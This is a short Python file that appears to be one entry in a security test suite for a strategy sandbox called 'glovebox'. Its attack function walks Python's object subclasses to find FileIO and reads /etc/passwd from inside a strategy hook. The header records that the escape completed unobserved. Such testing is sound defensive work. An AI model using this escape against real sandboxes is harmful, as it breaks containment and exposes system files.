# id: L31
# family: language
# goal: construct the engine's raw file type, found among the subclasses of object
# finding: PY105
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    waiting = [object]
    while waiting:
        each = waiting.pop()
        for child in type.__subclasses__(each):
            waiting.append(child)
            if child.__name__ == "FileIO":
                return child("/etc/passwd").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
